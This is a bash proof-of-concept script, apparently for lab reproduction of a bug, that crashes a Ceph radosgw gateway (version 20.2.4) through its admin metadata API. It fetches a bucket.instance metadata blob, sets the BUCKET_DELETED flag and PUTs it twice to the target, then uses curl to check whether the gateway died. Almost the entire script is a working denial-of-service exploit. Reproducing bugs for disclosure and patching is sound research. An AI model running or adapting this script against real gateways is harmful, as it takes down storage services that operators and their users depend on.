#!/usr/bin/env bash
# Minimal crash of a Tentacle (20.2.4) radosgw through the admin metadata API: two PUTs of one bucket.instance
# key, the second with data.bucket_info.flags |= 64 (BUCKET_DELETED). No user, no entry point, no race needed.
# env: A (zone-a URL, only to create a bucket and fetch a real blob), B (target gateway), RGWADMIN.
set -euo pipefail
cd "$(dirname "$0")/.."
A=${A:-http://127.0.0.1:26801} B=${B:-http://127.0.0.1:26802}
RGWADMIN=${RGWADMIN:-chroot /srv/sid radosgw-admin -c /tmp/lab/ceph.conf}
T=$(head -c4 /dev/urandom | od -An -tx1 | tr -d ' \n'); U=mr-$T BK=mrb-$T
$RGWADMIN user create --rgw-zone=zone-a --uid=$U --display-name=$U --access-key=AK$T --secret=SK$T >/dev/null
AK=AK$T SK=SK$T python3 s3req.py -4 PUT "$A/$BK" | head -1
ID=$(python3 s3req.py -4 GET "$A/admin/metadata/bucket?key=$BK" | tail -n +2 | python3 -c 'import json,sys; print(json.load(sys.stdin)["data"]["bucket"]["bucket_id"])')
python3 s3req.py -4 -o /tmp/mr-blob.json GET "$A/admin/metadata/bucket.instance?key=$BK:$ID" >/dev/null
python3 -c 'import json,sys; j=json.load(open(sys.argv[1])); j["data"]["bucket_info"]["flags"] |= 64; json.dump(j, open(sys.argv[2], "w"))' /tmp/mr-blob.json /tmp/mr-blob-deleted.json
KEY="$BK%3A$ID"
H='Content-Type: application/json'
echo "1) PUT $B/admin/metadata/bucket.instance?key=$KEY  (blob as fetched)"
python3 s3req.py -4 -i -H "$H" -f /tmp/mr-blob.json PUT "$B/admin/metadata/bucket.instance?key=$KEY" | grep -E '^HTTP|RGWX'
echo "   alive: $(curl -s -o /dev/null -w '%{http_code}' "$B/")"
echo "2) PUT $B/admin/metadata/bucket.instance?key=$KEY  (same blob, flags|=64)"
python3 s3req.py -4 -i -H "$H" -f /tmp/mr-blob-deleted.json PUT "$B/admin/metadata/bucket.instance?key=$KEY" 2>&1 | grep -E '^HTTP|RGWX|Error|Disconnected' || true
sleep 0.5
echo "   alive: $(curl -s -o /dev/null -w '%{http_code}' "$B/")   (000 = radosgw died)"
